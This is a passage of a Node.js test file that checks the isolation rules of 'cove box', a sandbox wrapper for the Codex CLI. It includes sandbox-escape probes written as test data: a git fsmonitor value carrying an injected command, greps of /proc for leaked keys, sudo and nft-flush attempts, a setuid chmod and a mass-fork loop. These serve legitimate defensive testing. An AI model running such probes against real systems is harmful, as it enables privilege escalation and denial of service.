@@ -1,0 +1,586 @@
+// Goal: `cove box` keeps every rule of the wrapper that docs/box.md lists, number by number, and does
+// better where that page says so. Method: the real Codex CLI and a scripted model, in a network of
+// the test's own that leads nowhere else; init scripts look around inside.
+import assert from 'node:assert/strict';
+import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, readdirSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { spawnSync } from 'node:child_process';
+import { after, before, test } from 'node:test';
+import { bin, cmdline, pids, root, until } from './lib/cove.mjs';
+import { Bed, KEY, OUTSIDE, OWNER } from './lib/box.mjs';
+
+let bed;
+before(async () => {
+  bed = await Bed.make();
+  const turn = (when, run) => ({ when, steps: [{ run }, { say: `said ${when}` }] });
+  await bed.startModel({ model: 'gpt-5.5', turns: [
+    turn('make a file', 'echo by-codex > made.txt && mkdir -p deep/er && echo $CODEX_HOME'),
+    turn('stay a while', 'echo here > here.txt; sleep 600'),
+    turn('nested sandbox', 'true'),
+    { when: 'make fail', steps: [{ fail: { status: 400, times: 9, message: 'no' } }] },
+  ] });
+  // The image is made from npm, so this first one is in the real network.
+  const r = await bed.run(['--', '--version'], { online: true, cwd: bed.project(), env: { COVE_BOX_TEST_REACHED: 'http://models.cove/' } });
+  assert.equal(r.status, 0, r.stderr);
+  assert.match(r.stderr, /Preparing a sandbox with Codex/);
+});
+after(() => bed?.remove());
+
+const refused = async (args, text, options = {}) => {
+  const r = await bed.run(args, { cwd: bed.project(), ...options });
+  assert.equal(r.status, 1, r.stdout + r.stderr);
+  assert.ok(r.stderr.split('\n').includes(`Error: ${text}`), `${text}\nnot in\n${r.stderr}`);
+};
+const says = (r, name) => new RegExp(`^${name}=(.*)$`, 'm').exec(r.stdout)?.[1];
+
+// ---- 1.1 work directory
+test('1 the work directory: where we are, WORKSPACE_ROOT_DIR, --work_dir before both', async () => {
+  const [here, there] = [bed.project(), bed.project()];
+  assert.equal(says(await bed.probe('echo pwd=$PWD', { cwd: here }), 'pwd'), `/app${here}`);
+  assert.equal(says(await bed.probe('echo pwd=$PWD', { cwd: here, env: { WORKSPACE_ROOT_DIR: there } }), 'pwd'), `/app${there}`);
+  mkdirSync(join(there, 'sub')); chownSync(join(there, 'sub'), OWNER, OWNER);
+  for (const flag of ['--work_dir', '--work-dir']) {
+    const r = await bed.probe('echo pwd=$PWD', { cwd: here, args: [flag, `${there}/sub`], env: { WORKSPACE_ROOT_DIR: there } });
+    assert.equal(says(r, 'pwd'), `/app${there}/sub`);
+  }
+});
+test('2 the path is resolved before any check', async () => {
+  const real = bed.project();
+  symlinkSync(real, join(bed.dir, 'link'));
+  assert.equal(says(await bed.probe('echo pwd=$PWD', { args: ['--work_dir', `${bed.dir}/link`] }), 'pwd'), `/app${real}`);
+});
+test('3 the root is refused, by a symbolic link too', async () => {
+  symlinkSync('/', join(bed.dir, 'toroot'));
+  await refused(['--work_dir', '/'], 'refusing to use / as work directory.');
+  await refused(['--work_dir', `${bed.dir}/toroot`], 'refusing to use / as work directory.');
+});
+test('4 what cannot be resolved or is no directory is refused', async () => {
+  await refused(['--work_dir', '/nowhere/at/all'], 'Unable to resolve work directory path.');
+  const file = bed.put(join(bed.dir, 'plain'), '');
+  await refused(['--work_dir', file], `Work directory does not exist: ${file}`);
+});
+test('5 WORKSPACE_ROOT_DIR holds the work directory, by components', async () => {
+  const top = bed.project();
+  mkdirSync(`${top}-more`);
+  await refused(['--work_dir', `${top}-more`], `work directory must be inside WORKSPACE_ROOT_DIR (${top})`, { env: { WORKSPACE_ROOT_DIR: top } });
+  symlinkSync('/usr', join(top, 'out'));
+  await refused(['--work_dir', `${top}/out`], `work directory must be inside WORKSPACE_ROOT_DIR (${top})`, { env: { WORKSPACE_ROOT_DIR: top } });
+});
+test('6 every flag says what it lacks', async () => {
+  const lacks = { '--work_dir': 'directory', '--work-dir': 'directory', '--init_script': 'script', '--codex-version': 'version', '--auth_file': 'file', '--auth-file': 'file', '--read-only': 'path', '--config': 'file or directory', '--sessions-path': 'directory', '--codex-home': 'directory', '--firewall': 'mode' };
+  for (const [flag, what] of Object.entries(lacks)) await refused([flag], `${flag} flag provided but no ${what} specified.`);
+});
+test('7 the project is mounted read-write at /app and its path, live, and owned as outside', async () => {
+  const dir = bed.project({ 'a.txt': 'one' });
+  const r = await bed.probe('cat a.txt; echo; echo two > b.txt; echo own=$(stat -c %U:%u . a.txt b.txt | tr "\\n" " ")', { cwd: dir });
+  assert.match(r.stdout, /^one/);
+  assert.equal(says(r, 'own'), 'codex:1000 codex:1000 codex:1000');
+  assert.equal(readFileSync(join(dir, 'b.txt'), 'utf8'), 'two\n');
+  assert.equal(statSync(join(dir, 'b.txt')).uid, OWNER);
+  const c = await bed.run(['exec', '--skip-git-repo-check', 'make a file'], { cwd: dir });
+  assert.equal(c.status, 0, c.stderr);
+  assert.equal(readFileSync(join(dir, 'made.txt'), 'utf8'), 'by-codex\n');
+  assert.equal(statSync(join(dir, 'deep/er')).uid, OWNER);
+});
+
+// ---- 1.2 options and arguments
+test('8 every option is known, and -- ends them', async () => {
+  const dir = bed.project();
+  const extra = bed.put(join(bed.dir, 'extra.txt'), 'x');
+  const config = bed.put(join(bed.dir, 'c8.toml'), 'model = "gpt-5.5"\n');
+  const auth = bed.put(join(bed.dir, 'auth8.json'), JSON.stringify({ OPENAI_API_KEY: KEY }));
+  const r = await bed.run(['--work_dir', dir, '--init_script', bed.script('true'), '--codex-version', '0.169.0', '--auth_file', auth, '--read-only', extra, '--config', config,
+    '--sessions-path', `${dir}/s`, '--codex-home', `${dir}/h`, '-y', '--yes', '--firewall', 'proxy', '--', '--version']);
+  assert.equal(r.status, 0, r.stderr);
+  assert.equal(r.stdout, 'codex-cli 0.169.0\n');
+  await refused(['--firewall', 'none'], "--firewall must be proxy or acl, not 'none'.");
+});
+test('9 the rest goes to codex unchanged; without any it works on its own', async () => {
+  const dir = bed.project();
+  const r = await bed.run(['exec', '--yes', "it's $HOME `x`\n two"], { cwd: dir });
+  assert.equal(r.status, 2);
+  assert.match(r.stderr, /unexpected argument '--yes'/);
+  const words = await bed.run(['exec', '--skip-git-repo-check', "make a file  'q' $HOME \"d\""], { cwd: dir });
+  assert.equal(words.status, 0, words.stderr);
+  assert.ok(words.stderr.includes("make a file  'q' $HOME \"d\""), words.stderr);
+  const alone = bed.start([], { cwd: dir, pty: true, input: null, env: { TERM: 'xterm' } });
+  const codex = () => pids().map(cmdline).find((c) => /codex.* --sandbox workspace-write --ask-for-approval on-request|codex --full-auto/.test(c) && !c.includes('grep'));
+  await until('codex runs', codex, 20000);
+  alone.child.stdin.end('\x03\x03');
+  alone.child.kill('SIGTERM');
+  await alone.done;
+  await until('it is gone', () => !codex());
+});
+test('10 a terminal inside exactly when standard input is one', async () => {
+  const tty = 'if [ -t 1 ]; then echo tty=yes; else echo tty=no; fi';
+  const shell = bed.project();
+  const fake = async (options) => {
+    const r = await bed.run(['exec', '--skip-git-repo-check'], { cwd: shell, ...options });
+    return r.stdout + r.stderr;
+  };
+  // Codex reads its prompt from standard input when that is no terminal, and says so.
+  assert.match(await fake({ input: 'make a file' }), /said make a file/);
+  assert.match(await fake({ pty: true }), /No prompt provided/);
+  assert.equal(says(await bed.probe(tty), 'tty'), 'no');
+});
+test('11 the exit status is codex\'s own', async () => {
+  assert.equal((await bed.run(['--no-such-flag'], { cwd: bed.project() })).status, 2);
+  assert.equal((await bed.run(['exec', '--skip-git-repo-check', 'make fail'], { cwd: bed.project() })).status, 1);
+  assert.equal((await bed.run(['exec', '--skip-git-repo-check', 'make a file'], { cwd: bed.project() })).status, 0);
+});
+
+// ---- 1.3 home, configuration, credentials
+test('12 /codex_home is HOME and CODEX_HOME, backed by .environment', async () => {
+  const dir = bed.project();
+  const r = await bed.probe('echo homes=$HOME,$CODEX_HOME; touch /codex_home/mark; echo xdg=$XDG_CONFIG_HOME', { cwd: dir });
+  assert.equal(says(r, 'homes'), '/codex_home,/codex_home');
+  assert.equal(says(r, 'xdg'), '/home/codex/.config');
+  assert.equal(statSync(join(dir, '.codex/.environment/mark')).uid, OWNER);
+  assert.equal(statSync(join(dir, '.codex')).uid, OWNER);
+  await bed.probe('touch /codex_home/mark', { cwd: dir, args: ['--codex-home', `${dir}/other`] });
+  assert.ok(existsSync(join(dir, 'other/.environment/mark')));
+});
+test('13 config.toml: --config overwrites, else the first directory\'s where there is none', async () => {
+  const dir = bed.project({ 'codex/config.toml': 'model = "from-project"\n' });
+  const copy = () => readFileSync(join(dir, '.codex/.environment/config.toml'), 'utf8');
+  const home = bed.home();
+  rmSync(join(home, '.codex'), { recursive: true });
+  const auth = ['--auth_file', bed.put(join(bed.dir, 'auth13.json'), JSON.stringify({ OPENAI_API_KEY: KEY }))];
+  // It is placed before the domains are read: a wrong one ends the start early.
+  const go = async (args, env) => assert.match((await bed.run([...args, ...auth], { cwd: dir, home, env: { ...env, OPENAI_ALLOWED_DOMAINS: '!' } })).stderr, /Invalid domain format/);
+  const dirs = ['configdir', 'home/.codex', 'home/.config/codex'];
+  await go([]);
+  assert.match(copy(), /from-project/);
+  bed.put(join(home, '.config/codex/config.toml'), 'model = "from-xdg"\n');
+  await go([]);
+  assert.match(copy(), /from-project/, 'one that is there stays');
+  const fresh = () => rmSync(join(dir, '.codex'), { recursive: true });
+  fresh(); await go([]); assert.match(copy(), /from-xdg/, dirs[2]);
+  bed.put(join(home, '.codex/config.toml'), 'model = "from-home"\n');
+  fresh(); await go([]); assert.match(copy(), /from-home/, dirs[1]);
+  const named = join(bed.dir, 'named'); bed.put(join(named, 'config.toml'), 'model = "from-variable"\n');
+  fresh(); await go([], { CODEX_CONFIG_DIR: named }); assert.match(copy(), /from-variable/, dirs[0]);
+  await go(['--config', bed.put(join(bed.dir, 'c13.toml'), 'model = "from-option"\n')]);
+  assert.match(copy(), /from-option/);
+  await go(['--config', named]);
+  assert.match(copy(), /from-variable/);
+});
+test('14 --config that cannot be used is an error', async () => {
+  const empty = join(bed.dir, 'empty'); mkdirSync(empty);
+  await refused(['--config', empty], `--config directory missing config.toml: ${empty}`);
+  await refused(['--config', `${empty}/x.toml`], `config file not found: ${empty}/x.toml`);
+  const dir = bed.project({ 'keep': '' });
+  mkdirSync(join(empty, 'config.toml'));
+  const r = await bed.run(['--config', empty], { cwd: dir });
+  assert.equal(r.status, 1);
+  assert.match(r.stderr, /^Error: cannot copy config.toml/m);
+});
+test('15 auth.json: found in the wrapper\'s order, never copied into the project', async () => {
+  const dir = bed.project();
+  const home = bed.home({ auth: null });
+  const good = JSON.stringify({ OPENAI_API_KEY: KEY });
+  const bad = JSON.stringify({ OPENAI_API_KEY: 'wrong' });
+  // The self-test asks the model through the gateway: whichever file is used decides what it sees.
+  const works = async (args = [], env = {}) => {
+    const before = bed.modelCalls().length;
+    const r = await bed.run([...args, '--', '--version'], { cwd: dir, home, env });
+    assert.equal(r.status, 0, r.stderr);
+    return bed.modelCalls().length > before && bed.modelCalls().at(-1).auth === 'right';
+  };
+  const config = join(bed.dir, 'cfg15'); bed.put(join(config, 'config.toml'), '');
+  const variable = join(bed.dir, 'var15');
+  const places = [join(dir, '.codex/auth.json'), join(dir, 'codex/auth.json'), join(home, '.config/codex/auth.json'), join(home, '.codex/auth.json'), join(variable, 'auth.json'), join(config, 'auth.json')];
+  const args = ['--config', config], env = { CODEX_CONFIG_DIR: variable };
+  bed.put(join(dir, '.codex/.environment/auth.json'), good, 0o600);
+  assert.ok(await works(args, env), 'the last place, left by a login inside');
+  for (const [i, place] of places.entries()) {
+    // Each is before all that came so far, whose key is made wrong.
+    for (const p of [join(dir, '.codex/.environment/auth.json'), ...places.slice(0, i)]) bed.put(p, bad, 0o600);
+    bed.put(place, good, 0o600);
+    assert.ok(await works(args, env), place);
+  }
+  for (const p of places) bed.put(p, bad, 0o600);
+  const named = bed.put(join(bed.dir, 'auth15.json'), good, 0o600);
+  assert.ok(await works(args, { ...env, CODEX_AUTH_FILE: named }));
+  assert.ok(await works([...args, '--auth_file', named], { ...env, CODEX_AUTH_FILE: places[0] }));
+  rmSync(dir, { recursive: true }); mkdirSync(dir); chownSync(dir, OWNER, OWNER);
+  assert.ok(await works(['--auth_file', named]));
+  assert.equal(spawnSync('grep', ['-rl', KEY, dir]).stdout.toString(), '');
+});
+test('16 auth.json is read-only inside and holds no secret; none is a warning, a missing one an error', async () => {
+  const dir = bed.project();
+  const r = await bed.probe('cat /codex_home/auth.json; echo; echo x >> /codex_home/auth.json || echo ro=yes; rm -f /codex_home/auth.json; ls -la $SANDBOX_ENV_DIR/auth.json; ' +
+    `echo found=$(grep -rls scripted-[k]ey /codex_home /app /etc /home /tmp /run /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | wc -l)`, { cwd: dir });
+  assert.equal(says(r, 'ro'), 'yes');
+  assert.match(r.stdout, /"OPENAI_API_KEY":"added-by-the-gateway-outside"/);
+  assert.equal(says(r, 'found'), '0');
+  await refused(['--auth_file', '/none/auth.json'], 'auth file not found: /none/auth.json');
+  await refused([], 'auth file not found: /none/a.json', { env: { CODEX_AUTH_FILE: '/none/a.json' } });
+  const none = await bed.run(['--', '--version'], { cwd: dir, home: bed.home({ auth: null }) });
+  assert.equal(none.status, 0, none.stderr);
+  assert.match(none.stderr, /^Warning: auth.json not found; Codex CLI may prompt for login inside the container.$/m);
+});
+test('17 config.toml and auth.json get mode 600', async () => {
+  const dir = bed.project({ 'codex/config.toml': '' });
+  const home = bed.home();
+  chmodSync(join(home, '.codex/auth.json'), 0o644);
+  const r = await bed.probe('echo modes=$(stat -c %a /codex_home/config.toml /codex_home/auth.json | tr "\\n" " ")', { cwd: dir, home, args: ['--config', bed.put(join(bed.dir, 'c17.toml'), '', 0o644)] });
+  assert.equal(says(r, 'modes'), '600 600');
+  assert.equal(statSync(join(home, '.codex/auth.json')).mode & 0o777, 0o600);
+  assert.equal(statSync(join(dir, '.codex/.environment/config.toml')).mode & 0o777, 0o600);
+});
+test('18 an environment that git does not ignore is warned of, and git runs nothing outside', async () => {
+  const dir = bed.project();
+  const trap = join(bed.dir, 'trapped');
+  const git = (...args) => spawnSync('git', ['-C', dir, ...args], { env: { ...process.env, GIT_CONFIG_COUNT: '1', GIT_CONFIG_KEY_0: 'safe.directory', GIT_CONFIG_VALUE_0: '*' } });
+  git('init', '-q');
+  git('config', 'core.fsmonitor', `touch ${trap}; false`);
+  spawnSync('chown', ['-R', `${OWNER}:${OWNER}`, dir]);
+  const warning = 'Warning: .codex/.environment is not ignored by git; consider adding it to .gitignore to avoid committing credentials.';
+  const one = await bed.run(['--', '--version'], { cwd: dir });
+  assert.ok(one.stderr.includes(warning), one.stderr);
+  bed.put(join(dir, '.gitignore'), '.codex/.environment/\n');
+  assert.ok(!(await bed.run(['--', '--version'], { cwd: dir })).stderr.includes('not ignored'));
+  assert.ok(!(await bed.run(['--', '--version'], { cwd: bed.project() })).stderr.includes('not ignored'));
+  assert.ok(!existsSync(trap));
+});
+test('19 sessions are the environment\'s, or where --sessions-path says', async () => {
+  const dir = bed.project();
+  const task = ['exec', '--skip-git-repo-check', 'make a file'];
+  assert.equal((await bed.run(task, { cwd: dir })).status, 0);
+  const rollouts = (at) => spawnSync('find', [at, '-name', 'rollout-*.jsonl'], { encoding: 'utf8' }).stdout.trim().split('\n').filter(Boolean).length;
+  assert.equal(rollouts(join(dir, '.codex/.environment/sessions')), 1);
+  assert.equal((await bed.run(['--sessions-path', `${dir}/elsewhere`, ...task], { cwd: dir })).status, 0);
+  assert.equal(rollouts(join(dir, 'elsewhere')), 1);
+  assert.equal(rollouts(join(dir, '.codex/.environment/sessions')), 1);
+  const r = await bed.probe('grep -c " /codex_home/sessions " /proc/self/mountinfo | sed s/^/mounts=/', { cwd: dir });
+  assert.equal(says(r, 'mounts'), '1');
+});
+test('20 prompts of the first directory that has them, nothing overwritten', async () => {
+  const home = bed.home();
+  bed.put(join(home, '.codex/prompts/one.md'), 'new one');
+  bed.put(join(home, '.codex/prompts/two.md'), 'two');
+  const dir = bed.project({ '.codex/.environment/prompts/one.md': 'old one', 'codex/prompts/three.md': 'three' });
+  const early = { cwd: dir, home, env: { OPENAI_ALLOWED_DOMAINS: '!' } };
+  await bed.run([], early);
+  const there = join(dir, '.codex/.environment/prompts');
+  assert.deepEqual(readdirSync(there).sort(), ['one.md', 'two.md']);
+  assert.equal(readFileSync(join(there, 'one.md'), 'utf8'), 'old one');
+  const config = join(bed.dir, 'cfg20'); bed.put(join(config, 'config.toml'), ''); bed.put(join(config, 'prompts/four.md'), '4');
+  await bed.run(['--config', config], early);
+  assert.ok(existsSync(join(there, 'four.md')));
+});
+test('21 web_search_request = true is honoured', async () => {
+  const r = (config) => bed.probe('grep ^web_search /etc/codex/config.toml', { args: ['--config', bed.put(join(bed.dir, 'c21.toml'), config)] });
+  assert.match((await r('web_search_request = true\n')).stdout, /^web_search = "live"$/m);
+  assert.match((await r('')).stdout, /^web_search = "disabled"$/m);
+  const used = await bed.run(['--config', bed.put(join(bed.dir, 'c21.toml'), 'web_search_request = true\n'), 'exec', '--skip-git-repo-check', 'make a file'], { cwd: bed.project() });
+  assert.equal(used.status, 0, used.stderr);
+});
+
+// ---- 1.4 mounts
+test('22 --read-only: any file or directory that exists, below /app, repeatable, not writable', async () => {
+  const file = bed.put(join(bed.dir, 'ro/file'), 'f'), tree = join(bed.dir, 'ro/tree');
+  bed.put(join(tree, 'x'), 'x');
+  symlinkSync(tree, join(bed.dir, 'ro/link'));
+  const r = await bed.probe(`cat /app${file} /app${tree}/x; echo; echo y > /app${tree}/x || echo ro=yes; echo y > /app${file} || echo rof=yes`, { args: ['--read-only', file, '--read-only', `${bed.dir}/ro/link`] });
+  assert.match(r.stdout, /^fx/);
+  assert.equal(says(r, 'ro'), 'yes');
+  assert.equal(says(r, 'rof'), 'yes');
+  await refused(['--read-only', '/not/there'], 'Read-only path does not exist: /not/there');
+});
+test('23 a writable place outside the project needs consent', async () => {
+  const dir = bed.project();
+  const out = join(bed.dir, 'outside23');
+  for (const flag of ['--codex-home', '--sessions-path']) {
+    await refused([flag, out], `Non-interactive shell; refusing to mount ${out} outside workdir.`, { cwd: dir });
+    const no = await bed.run([flag, out], { cwd: dir, pty: true, input: 'n\n' });
+    assert.equal(no.status, 1);
+    assert.match(no.stdout, /Proceed .*\? \[y\/N\]/);
+    assert.match(no.stdout, /Aborting per user choice\./);
+    assert.ok(!existsSync(out));
+  }
+  const yes = await bed.run(['-y', '--codex-home', out, '--', '--version'], { cwd: dir });
+  assert.equal(yes.status, 0, yes.stderr);
+  assert.match(yes.stderr, new RegExp(`Warning: --codex-home ${out} is outside the work directory; .*breaks workdir-only isolation`));
+  assert.match(yes.stderr, /confirmed by --yes/);
+  assert.ok(existsSync(join(out, '.environment')));
+  const typed = await bed.run(['--sessions-path', `${out}-s`, '--', '--version'], { cwd: dir, pty: true, input: 'y\n' });
+  assert.equal(typed.status, 0, typed.stdout);
+});
+test('24 nothing else of the host is visible', async () => {
+  const secret = bed.put(join(bed.dir, 'secret24'), 'host secret');
+  const dir = bed.project();
+  const r = await bed.probe(`cat ${secret} || echo gone=yes; ls -A /app${bed.dir} | tr '\\n' ' ' | sed s/^/beside=/; echo; ls -A /root /home /srv /mnt /media /opt 2>/dev/null | tr '\\n' ' '; ` +
+    'echo mounts=$(awk \'$4 != "/" && $3 !~ /^0:/ {print $5}\' /proc/self/mountinfo | sort | tr "\\n" " ")', { cwd: dir });
+  assert.equal(says(r, 'gone'), 'yes');
+  assert.equal(says(r, 'beside').trim(), dir.split('/').pop());
+  assert.doesNotMatch(r.stdout, /host secret/);
+});
+
+// ---- 1.5 init hook
+test('25 --init_script is placed, made executable and run', async () => {
+  const dir = bed.project();
+  const script = bed.put(join(bed.dir, 'hook25.sh'), '#!/bin/sh\necho hook=ran\n', 0o600);
+  const r = await bed.run(['--init_script', script, '--', '--version'], { cwd: dir });
+  assert.equal(says(r, 'hook'), 'ran', r.stderr);
+  assert.equal(statSync(join(dir, '.codex/.environment/init.sh')).mode & 0o777, 0o755);
+  await refused(['--init_script', '/none.sh'], 'init script not found: /none.sh');
+  await refused(['--init_script', dir], `init script not found: ${dir}`);
+});
+test('26 one that is there and executable runs by itself, pinned by its hash', async () => {
+  const dir = bed.project();
+  const hook = join(dir, '.codex/.environment/init.sh');
+  const go = (args = [], options = {}) => bed.run([...args, '--', '--version'], { cwd: dir, ...options });
+  assert.equal(says(await go(['--init_script', bed.script('echo hook=one')]), 'hook'), 'one');
+  assert.equal(says(await go(), 'hook'), 'one', 'again without the option');
+  // What the agent could do: write another.
+  bed.put(hook, '#!/bin/sh\necho hook=two\n', 0o755);
+  const changed = await go();
+  assert.equal(changed.status, 1);
+  assert.match(changed.stderr, /refusing to run .*init\.sh, which has changed since it was approved/);
+  assert.match((await go([], { pty: true, input: 'n\n' })).stdout, /Aborting per user choice/);
+  assert.equal(says(await go(['-y']), 'hook'), 'two');
+  assert.equal(says(await go(), 'hook'), 'two');
+  chmodSync(hook, 0o644);
+  assert.equal(says(await go(), 'hook'), undefined, 'not executable: not run');
+});
+test('27 the hook runs as codex in the project with SANDBOX_ENV_DIR; its failure stops the start', async () => {
+  const dir = bed.project();
+  const r = await bed.probe('echo who=$(id -un):$(id -u); echo env=$SANDBOX_ENV_DIR; echo pwd=$PWD; touch $SANDBOX_ENV_DIR/artefact; ls /codex_home/artefact; echo "echo hook=evil" > $SANDBOX_ENV_DIR/init.sh || echo kept=yes', { cwd: dir });
+  assert.equal(says(r, 'who'), 'codex:1000');
+  assert.equal(says(r, 'env'), `/app${dir}/.codex/.environment`);
+  assert.equal(says(r, 'pwd'), `/app${dir}`);
+  assert.match(r.stdout, /^\/codex_home\/artefact$/m, 'both names are one directory');
+  assert.equal(says(r, 'kept'), 'yes', 'it cannot be written while the box runs');
+  const fails = await bed.run(['--init_script', bed.script('exit 7'), '--', '--version'], { cwd: dir });
+  assert.equal(fails.status, 7);
+  assert.doesNotMatch(fails.stdout, /codex-cli/);
+});
+test('28 the example hooks run, twice, and say [sandbox]', async () => {
+  const examples = join(root, 'docs/examples/box');
+  assert.deepEqual(readdirSync(examples).sort(), ['jdk.sh', 'maven.sh', 'node.sh', 'python.sh']);
+  for (const name of readdirSync(examples)) {
+    const dir = bed.project();
+    for (let i = 0; i < 2; ++i) {
+      const r = await bed.run(['--init_script', join(examples, name), '--', '--version'], { cwd: dir });
+      assert.equal(r.status, 0, `${name}: ${r.stdout}${r.stderr}`);
+      assert.match(r.stdout, /^\[sandbox\] /m, name);
+    }
+  }
+});
+
+// ---- 1.6 image and version
+test('29 CODEX_DOCKER_IMAGE names the image; a tag is its version, a registry\'s port is none', async () => {
+  const go = (image) => bed.run(['--', '--version'], { cwd: bed.project(), env: { CODEX_DOCKER_IMAGE: image } });
+  assert.equal((await go('codex-sandbox:0.169.0')).stdout, 'codex-cli 0.169.0\n');
+  const odd = await go('codex-sandbox:!');
+  assert.match(odd.stderr, /^Error: 'codex-sandbox:!' is no Codex version/m);
+  // Offline a new name cannot be made; its name shows what was understood.
+  const other = bed.start(['--', '--version'], { cwd: bed.project(), env: { CODEX_DOCKER_IMAGE: 'registry.example:5000/codex' } });
+  await until('it is understood', () => /Installing Codex 0\.169\.0/.test(other.stderr), 20000);
+  // The shell in between execs: the child is cove box itself.
+  other.child.kill('SIGTERM');
+  assert.equal((await other.done).status, 130);
+});
+test('30 the version: --codex-version, CODEX_VERSION, the tag, npm for "latest"', async () => {
+  const fakes = join(bed.dir, 'fake-npm');
+  const npm = (text) => bed.put(join(fakes, 'npm'), `#!/bin/sh\n${text}\n`, 0o755);
+  const PATH = `${fakes}:${process.env.PATH}`;
+  const go = (args, env) => bed.run([...args, '--', '--version'], { cwd: bed.project(), env: { PATH, ...env } });
+  npm('echo 0.169.0');
+  assert.equal((await go(['--codex-version', '0.169.0'], { CODEX_VERSION: '!', CODEX_DOCKER_IMAGE: 'codex-sandbox:!' })).status, 0);
+  assert.equal((await go([], { CODEX_VERSION: '0.169.0', CODEX_DOCKER_IMAGE: 'codex-sandbox:!' })).status, 0);
+  assert.equal((await go(['--codex-version', 'latest'])).status, 0);
+  npm('exit 1');
+  assert.match((await go([], { CODEX_VERSION: 'latest' })).stderr, /^Error: npm could not tell the latest Codex version/m);
+  npm('true');
+  assert.match((await go([], { CODEX_VERSION: 'latest' })).stderr, /^Error: npm named no latest Codex version/m);
+  rmSync(join(fakes, 'npm'));
+  // No npm at all, but what the test itself needs.
+  for (const name of ['nsenter', 'unshare', 'sh', 'mount']) symlinkSync(spawnSync('sh', ['-c', `command -v ${name}`], { encoding: 'utf8' }).stdout.trim(), join(fakes, name));
+  assert.match((await go([], { CODEX_VERSION: 'latest', PATH: fakes })).stderr, /^Error: npm is required to find the latest Codex version/m);
+});
+test('31 ALLOW_REMOTE_IMAGE_PULL: without it an unknown latest is an error, with it the local image will do', async () => {
+  const fakes = join(bed.dir, 'fake-npm31');
+  bed.put(join(fakes, 'npm'), '#!/bin/sh\nexit 1\n', 0o755);
+  const go = (pull) => bed.run(['--', '--version'], { cwd: bed.project(), env: { PATH: `${fakes}:${process.env.PATH}`, CODEX_VERSION: 'latest', ALLOW_REMOTE_IMAGE_PULL: pull } });
+  assert.equal((await go('0')).status, 1);
+  const used = await go('1');
+  assert.equal(used.status, 0, used.stderr);
+  assert.match(used.stderr, /^Warning: the latest Codex version cannot be found; using the local 0\.169\.0\.$/m);
+});
+test('32 the image: codex 1000, Node, Codex, git, curl, certificates, python3, /workspace', async () => {
+  const r = await bed.probe('for c in node npm codex git curl python3 bash; do command -v $c >/dev/null || echo lacks=$c; done; ls -d /etc/ssl/certs/ca-certificates.crt /workspace; getent passwd codex | sed s/^/user=/; stat -c dir=%U /workspace; getent passwd daytona; node -p "\'node=\'+parseInt(process.versions.node)"');
+  assert.equal(says(r, 'lacks'), undefined);
+  assert.match(says(r, 'user'), /^codex:\*?x?:1000:1000:.*:\/home\/codex:\/bin\/bash$/);
+  assert.equal(says(r, 'dir'), 'codex');
+  assert.ok(Number(says(r, 'node')) >= 18);
+  assert.doesNotMatch(r.stdout, /daytona/);
+});
+
+// ---- 1.7 the container
+test('33 a name by the path, removed on every exit, nothing left; and any number per directory', async () => {
+  const dir = bed.project();
+  const long = (home) => bed.start(['exec', '--skip-git-repo-check', 'stay a while'], { cwd: dir, home });
+  const before = netnsCount();
+  const boxes = [long(), long()];
+  await until('both work', () => existsSync(join(dir, 'here.txt')) && bed.runs().length === 2 && bed.modelCalls().filter((c) => c.status === 200).length >= 2, 30000);
+  const env = readFileSync(join(bed.base, 'run', bed.runs()[0], 'env'), 'utf8');
+  assert.match(env, new RegExp(`COVE_BOX=codex_${dir.replaceAll('/', '_').replaceAll(/[^\w-]/g, '')}\n`));
+  const server = pids().filter((p) => cmdline(p).includes(`--data ${bed.base}/run/`) && cmdline(p).includes(' serve '));
+  assert.equal(new Set(server.map((p) => / --data (\S+)/.exec(cmdline(p))[1])).size, 2);
+  boxes[0].child.kill('SIGTERM');
+  assert.notEqual((await boxes[0].done).status, 0);
+  // One whose own process is killed outright: its server ends by itself, the next start tidies up.
+  const own = pids().find((p) => cmdline(p).startsWith(bin) && cmdline(p).includes(' box ') && cmdline(p).includes('stay a while'));
+  process.kill(own, 'SIGKILL');
+  await boxes[1].done;
+  await until('no server is left', () => !pids().some((p) => cmdline(p).includes(`--data ${bed.base}/run/`)), 20000);
+  await bed.run(['--', '--version'], { cwd: dir });
+  assert.deepEqual(bed.runs(), []);
+  await until('no namespace is left', () => netnsCount() <= before, 20000);
+  assert.doesNotMatch(readFileSync('/proc/mounts', 'utf8'), new RegExp(bed.base));
+});
+test('34 no capability, no new privileges; the rules are out of reach; limits hold', async () => {
+  const limited = bed.put(join(bed.dir, 'limited.toml'), readFileSync(bed.config, 'utf8') + '[limits]\npids = 200\n');
+  const r = await bed.probe('grep -E "^(CapEff|CapPrm|CapAmb|NoNewPrivs)" /proc/self/status | tr "\\t\\n" "  " | sed s/^/status=/; echo; sudo -n id 2>&1; unshare -r sh -c "nft list ruleset; nft flush ruleset" 2>&1; ' +
+    'chmod u+s /codex_home 2>&1 || echo setid=no; echo seccomp=$(awk "/^Seccomp:/ {print \\$2}" /proc/self/status); perl -e \'for (1..5000) { my $p = fork; if (!defined $p) { print "limit=$_\\n"; last } if (!$p) { sleep 20; exit } push @p, $p } kill 9, @p\'', { env: { COVE_BOX_CONFIG: limited } });
+  assert.match(says(r, 'status'), /CapPrm: 0+ CapEff: 0+ CapAmb: 0+ NoNewPrivs: 1/);
+  assert.doesNotMatch(r.stdout, /uid=0/);
+  assert.equal(says(r, 'setid'), 'no');
+  assert.equal(says(r, 'seccomp'), '2');
+  assert.ok(Number(says(r, 'limit')) <= 200, r.stdout);
+});
+test('35 no network is made on the host: no device, no rule, no route', async () => {
+  const look = () => spawnSync('sh', ['-c', `ip -n ${bed.inner} -o link; ip -n ${bed.inner} route; nsenter --net=/run/netns/${bed.inner} nft list ruleset`], { encoding: 'utf8' }).stdout;
+  const dir = bed.project();
+  const idle = look();
+  const box = bed.start(['exec', '--skip-git-repo-check', 'stay a while'], { cwd: dir });
+  await until('it works', () => existsSync(join(dir, 'here.txt')), 20000);
+  assert.equal(look(), idle);
+  box.child.kill('SIGTERM');
+  await box.done;
+});
+
+// ---- 1.8 egress
+const web = (url) => `curl -ksS --max-time 4 ${url} 2>&1 | head -c 200; echo; `;
+test('36 the domains of OpenAI are always allowed, lists only add', async () => {
+  const r = await bed.probe('cat /etc/codex/allowed_domains.txt; ' + web('https://chatgpt.com/') + web('https://openai.com/'), { env: { OPENAI_ALLOWED_DOMAINS: 'registry.example.org' } });
